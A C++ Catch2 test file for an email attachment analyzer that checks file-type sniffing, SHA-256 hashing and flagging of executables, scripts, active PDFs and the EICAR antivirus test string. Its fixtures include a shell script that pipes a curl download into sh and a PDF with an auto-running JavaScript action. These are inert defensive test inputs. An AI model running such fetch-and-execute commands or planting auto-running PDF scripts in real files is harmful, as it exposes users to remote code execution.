// SPDX-License-Identifier: Apache-2.0
// Tests for attachment sniffing, hashing and flags (src/content/attachments.h).
#include "content/attachments.h"

#include <catch2/catch.hpp>

#include <string>

using namespace aiir::content;

namespace {
std::string b64(std::string_view in) {
  static constexpr char k[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string out;
  std::size_t i = 0;
  for (; i + 2 < in.size(); i += 3) {
    unsigned v = (static_cast<unsigned char>(in[i]) << 16) | (static_cast<unsigned char>(in[i + 1]) << 8) |
                 static_cast<unsigned char>(in[i + 2]);
    out += {k[v >> 18], k[(v >> 12) & 63], k[(v >> 6) & 63], k[v & 63]};
  }
  if (in.size() - i == 1) {
    unsigned v = static_cast<unsigned char>(in[i]) << 16;
    out += {k[v >> 18], k[(v >> 12) & 63], '=', '='};
  } else if (in.size() - i == 2) {
    unsigned v = (static_cast<unsigned char>(in[i]) << 16) | (static_cast<unsigned char>(in[i + 1]) << 8);
    out += {k[v >> 18], k[(v >> 12) & 63], k[(v >> 6) & 63], '='};
  }
  return out;
}
AttachmentInfo analyze(std::string_view bytes, std::string_view declared) {
  std::string encoded = b64(bytes);
  AttachmentRef ref;
  ref.base64 = encoded;
  ref.declared_format = declared;
  std::string scratch;
  return analyze_attachment(ref, scratch);
}
const std::string kEicar = R"(X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*)";
}  // namespace

TEST_CASE("EICAR is flagged with size and SHA-256", "[content][attachments]") {
  auto info = analyze(kEicar, "txt");
  CHECK(info.have_bytes);
  CHECK(info.eicar);
  CHECK(info.flagged());
  CHECK(info.size == 68);
  CHECK(info.sha256 == "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f");
}

TEST_CASE("ELF, PE, Mach-O are executables; shebang is a script", "[content][attachments]") {
  auto elf = analyze(std::string("\x7f" "ELF\x02\x01\x01\0\0\0\0\0\0\0\0\0", 16), "png");
  CHECK(elf.type == FileType::kElf);
  CHECK(elf.executable);
  CHECK(elf.type_mismatch);
  CHECK(elf.flagged());
  CHECK(analyze("MZ\x90\0\x03\0\0\0", "pdf").type == FileType::kPe);
  CHECK(analyze(std::string("\xcf\xfa\xed\xfe\x07\0\0\x01", 8), "").type == FileType::kMachO);
  auto sh = analyze("#!/bin/sh\ncurl x | sh\n", "txt");
  CHECK(sh.type == FileType::kScript);
  CHECK(sh.script);
}

TEST_CASE("PDF is sniffed; active PDF content is flagged", "[content][attachments]") {
  auto pdf = analyze("%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF", "pdf");
  CHECK(pdf.type == FileType::kPdf);
  CHECK_FALSE(pdf.type_mismatch);
  CHECK_FALSE(pdf.flagged());
  auto active = analyze("%PDF-1.4\n1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>", "application/pdf");
  CHECK(active.active_pdf);
  CHECK(active.flagged());
}

TEST_CASE("images, archives and text are sniffed", "[content][attachments]") {
  CHECK(analyze("\x89PNG\r\n\x1a\n\0\0\0\rIHDR", "png").type == FileType::kPng);
  CHECK(analyze("\xff\xd8\xff\xe0\0\x10JFIF", "jpeg").type == FileType::kJpeg);
  CHECK(analyze("GIF89a\x01\0\x01\0", "gif").type == FileType::kGif);
  CHECK(analyze(std::string("RIFF\x10\0\0\0WEBPVP8 ", 16), "webp").type == FileType::kWebp);
  auto zip = analyze("PK\x03\x04\x14\0\0\0\x08\0", "docx");
  CHECK(zip.type == FileType::kZip);
  CHECK(zip.archive);
  CHECK_FALSE(zip.type_mismatch);
  CHECK(analyze("\x1f\x8b\x08\0\0\0\0\0", "").archive);
  CHECK(analyze(std::string("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", 8), "doc").type == FileType::kOle2);
  auto txt = analyze("just some notes\nline two", "txt");
  CHECK(txt.type == FileType::kText);
  CHECK_FALSE(txt.flagged());
  CHECK(analyze("\x89PNG\r\n\x1a\n", "jpeg").type_mismatch);
}

TEST_CASE("S3-only and bad base64 attachments have no bytes", "[content][attachments]") {
  AttachmentRef ref;
  ref.s3_uri = "s3://b/x.pdf";
  std::string scratch;
  CHECK_FALSE(analyze_attachment(ref, scratch).have_bytes);
  ref.base64 = "!!!not base64!!!";
  CHECK_FALSE(analyze_attachment(ref, scratch).have_bytes);
}

TEST_CASE("the EICAR string is found wherever it sits", "[content][attachments]") {
  const std::string e = "EICAR-STANDARD-ANTIVIRUS-TEST-FILE";
  CHECK(contains_eicar(e));
  CHECK(contains_eicar("VVV " + e));
  CHECK(contains_eicar("Very Vivid " + e + " V"));
  CHECK(contains_eicar("x" + e.substr(0, 20) + e));  // a partial copy, its 'V' included, then the string
  CHECK_FALSE(contains_eicar(e.substr(0, e.size() - 1)));
  CHECK_FALSE(contains_eicar(e.substr(1)));
  CHECK_FALSE(contains_eicar("ANTIVIRUS"));
  CHECK_FALSE(contains_eicar(""));
}
